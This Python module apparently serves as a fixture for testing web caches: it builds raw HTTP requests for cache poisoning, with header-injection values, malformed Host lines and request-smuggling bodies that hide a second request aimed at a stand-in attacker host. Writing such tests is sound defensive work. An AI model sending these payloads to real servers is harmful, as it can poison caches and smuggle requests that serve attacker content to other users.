"""Requests by which caches have been poisoned, as bytes on the wire."""

from __future__ import annotations

import typing as t

#: What no answer to anybody else may contain.
TOKEN = "p0is0n"
HOST = "site.example"


class Attack(t.NamedTuple):
    """A request to a path; ``%s`` stands for it.

    :param counted: whether it says how long its body is.
    """

    start: str
    headers: tuple[str, ...]
    body: str = ""
    counted: bool = False

    def to(self, path: str) -> bytes:
        body = self.body.replace("%s", path)
        length = [f"Content-Length: {len(body)}"] if self.counted else []
        lines = [self.start.replace("%s", path), *self.headers, *length, "", body]
        return "\r\n".join(lines).encode("latin-1")


def attack(
    *headers: str,
    method: str = "GET",
    target: str = "%s",
    version: str = "HTTP/1.1",
    host: str | None = HOST,
    body: str = "",
) -> Attack:
    own = [] if host is None else [f"Host: {host}"]
    counted = bool(body) and not any("Transfer-Encoding" in line for line in headers)
    start = f"{method} {target} {version}"
    return Attack(start, (*own, *headers, "Connection: close"), body, counted)


def header(name: str, value: str = TOKEN) -> Attack:
    return attack(f"{name}: {value}")


EVIL = f"{TOKEN}.example"

#: Values, and the headers that have them: some proxy, framework or server gives each a meaning.
_VALUES = f"""
{EVIL} <- X-Forwarded-Host X-Host X_Forwarded_Host
127.0.0.1, {TOKEN} <- X-Forwarded-For
https, {TOKEN} <- X-Forwarded-Proto
{TOKEN} <- X-Forwarded-Scheme X-Forwarded-User CF-IPCountry X-Remote-User Sec-Fetch-Mode
{TOKEN} <- X-Requested-With Expect Trailer Upgrade x-prerender-revalidate ISR-Tags Content_Type
on <- X-Forwarded-Ssl
4444 <- X-Forwarded-Port
/{TOKEN} <- X-Forwarded-Prefix X-Original-URL X-Rewrite-URL x-middleware-rewrite x-matched-path
/{TOKEN} <- x-invoke-path Path-Info Script-Name
for=127.0.0.1;host={EVIL};proto=https <- Forwarded
DELETE <- X-HTTP-Method-Override
127.0.0.1 <- X-Real-IP True-Client-IP
CN={TOKEN} <- X-SSL-Client-S-DN
1.1 {TOKEN} <- Via
<script>{TOKEN}</script> <- User-Agent
https://{EVIL}/ <- Referer
https://{EVIL} <- Origin
application/{TOKEN} <- Accept
de-{TOKEN}, en;q=0.1 <- Accept-Language
{TOKEN}, identity;q=0.1 <- Accept-Encoding
Bearer {TOKEN} <- Authorization
session={TOKEN}; isr_draft={TOKEN}; __prerender_bypass={TOKEN} <- Cookie
bytes=0-3 <- Range
"{TOKEN}" <- If-Range
* <- If-None-Match
Fri, 31 Dec 2077 23:59:59 GMT <- If-Modified-Since
no-store, {TOKEN} <- Cache-Control
no-cache <- Pragma
0 <- Max-Forwards
trailers, {TOKEN} <- TE
middleware:middleware:middleware:middleware:middleware <- x-middleware-subrequest
1 <- x-nextjs-data ISR-Revalidate
revalidate <- X-ISR-Reason wsgi_isr.reason
isr; hit; detail={TOKEN} <- Cache-Status
5 <- Content_Length
text/{TOKEN} <- Content-Type
http://{EVIL} <- Proxy
"""
HEADERS = {
    name: value
    for value, names in (line.split(" <- ") for line in _VALUES.strip().splitlines())
    for name in names.split()
}

#: A second request, for a server that loses count of the first one's bytes.
INSIDE = f"GET %s?{TOKEN} HTTP/1.1\r\nHost: {EVIL}\r\nX-Forwarded-Host: {EVIL}\r\n\r\n"

ATTACKS: dict[str, Attack] = {
    **{name: header(name, value) for name, value in HEADERS.items()},
    "a header twice": attack(f"X-Forwarded-Host: {EVIL}", "X-Forwarded-Host: other.example"),
    "a header in two spellings": attack(f"X-Forwarded-Host: {EVIL}", "X_Forwarded_Host: b"),
    "a header without a value": attack("X-Forwarded-Host:"),
    "a folded header": attack("X-Folded: a", f" {TOKEN}"),
    "a header with a space before its colon": attack(f"X-Forwarded-Host : {EVIL}"),
    "a header with a tab": attack(f"X-Forwarded-Host:\t{EVIL}"),
    "a header with bytes beyond ASCII": attack(f"X-Name: \xe9{TOKEN}\xff"),
    "a header with a control character": attack(f"X-Name: \x07{TOKEN}"),
    "a long header": attack(f"X-Name: {TOKEN * 900}"),
    "many headers": attack(*(f"X-Name-{i}: {TOKEN}" for i in range(80))),
    "all cookies": attack(*(f"Cookie: name{i}={TOKEN}" for i in range(20))),
    "an undeclared query": attack(target=f"%s?utm_source={TOKEN}&lang=de"),
    "a query without a name": attack(target=f"%s?={TOKEN}"),
    "a query that cloaks a parameter": attack(target=f"%s?a=1;b={TOKEN}"),
    "a query in another coding": attack(target=f"%s?%2561={TOKEN}&a%5b%5d={TOKEN}"),
    "a query with a second question mark": attack(target=f"%s??{TOKEN}?"),
    "a query that is a path": attack(target=f"%s?/../{TOKEN}"),
    "a method override in the query": attack(target="%s?_method=DELETE"),
    "a fragment": attack(target=f"%s#{TOKEN}"),
    "an absolute target": attack(target=f"http://{EVIL}%s"),
    "an absolute target of the same host": attack(target=f"http://{HOST}%s?{TOKEN}"),
    "an absolute target of another scheme": attack(target=f"https://{HOST}%s"),
    "a host with a port": attack(host=f"{HOST}:4444"),
    "a host with its default port": attack(f"X-Name: {TOKEN}", host=f"{HOST}:80"),
    "a host in capitals": attack(f"X-Name: {TOKEN}", host=HOST.upper()),
    "a host with a dot": attack(f"X-Name: {TOKEN}", host=f"{HOST}."),
    "another host": attack(host=EVIL),
    "a host with credentials": attack(host=f"{HOST}:80@{EVIL}"),
    "a host with a path": attack(host=f"{HOST}/{TOKEN}"),
    "a host with a space": attack(host=f"{HOST} {EVIL}"),
    "a host with a quote": attack(host=f'{HOST}"><{TOKEN}'),
    "two hosts": attack(f"Host: {EVIL}"),
    "two hosts in one": attack(host=f"{HOST}, {EVIL}"),
    "an empty host": attack(host=""),
    "no host": attack(host=None),
    "HTTP/1.0": attack(f"X-Name: {TOKEN}", version="HTTP/1.0"),
    "HTTP/1.0 without a host": attack(f"X-Name: {TOKEN}", version="HTTP/1.0", host=None),
    "HTTP/1.0 for another host": attack(version="HTTP/1.0", host=EVIL),
    "a HEAD": attack(f"X-Name: {TOKEN}", method="HEAD"),
    "an OPTIONS": attack(f"Origin: https://{EVIL}", method="OPTIONS"),
    "a POST": attack("Content-Type: text/plain", method="POST", body=TOKEN),
    "a PUT": attack("Content-Type: text/plain", method="PUT", body=TOKEN),
    "a TRACE": attack(f"X-Name: {TOKEN}", method="TRACE"),
    "a PURGE": attack(f"X-Name: {TOKEN}", method="PURGE"),
    "a method of one's own": attack(f"X-Name: {TOKEN}", method="P0IS0N"),
    "a method in small letters": attack(f"X-Name: {TOKEN}", method="get"),
    "a GET with a body": attack("Content-Type: text/plain", body=TOKEN),
    "a GET with a form": attack(
        "Content-Type: application/x-www-form-urlencoded", body=f"a={TOKEN}&_method=DELETE"
    ),
    "a HEAD with a body": attack("Content-Type: text/plain", method="HEAD", body=TOKEN),
    "a GET in chunks": attack(
        "Transfer-Encoding: chunked", body=f"{len(TOKEN):x}\r\n{TOKEN}\r\n0\r\n\r\n"
    ),
    "chunks with a trailer": attack(
        "Transfer-Encoding: chunked", body=f"1\r\na\r\n0\r\nX-Forwarded-Host: {EVIL}\r\n\r\n"
    ),
    "chunks and a length": attack(
        "Transfer-Encoding: chunked", "Content-Length: 4", body=f"0\r\n\r\n{INSIDE}"
    ),
    "a coding that is none": attack(
        "Transfer-Encoding: xchunked", "Content-Length: 0", body=INSIDE
    ),
    "a coding behind a tab": attack(
        "Transfer-Encoding:\tchunked", "Content-Length: 3", body=f"0\r\n\r\n{INSIDE}"
    ),
    "two lengths": attack("Content-Length: 0", body=INSIDE),
    "a length with a sign": Attack(
        "GET %s HTTP/1.1", (f"Host: {HOST}", "Content-Length: +0"), INSIDE
    ),
    "a second request in a body": attack(method="POST", body=INSIDE),
    "a second request behind the first": Attack("GET %s HTTP/1.1", (f"Host: {HOST}",), INSIDE),
    "a line break in the target": attack(target=f"%s?a=%0d%0aX-Forwarded-Host:%20{EVIL}"),
    "a bare line feed": attack(f"X-Name: a\nX-Forwarded-Host: {EVIL}"),
    "a bare carriage return": attack(f"X-Name: a\rX-Forwarded-Host: {EVIL}"),
    "a null byte": attack(f"X-Name: a\x00{TOKEN}"),
}
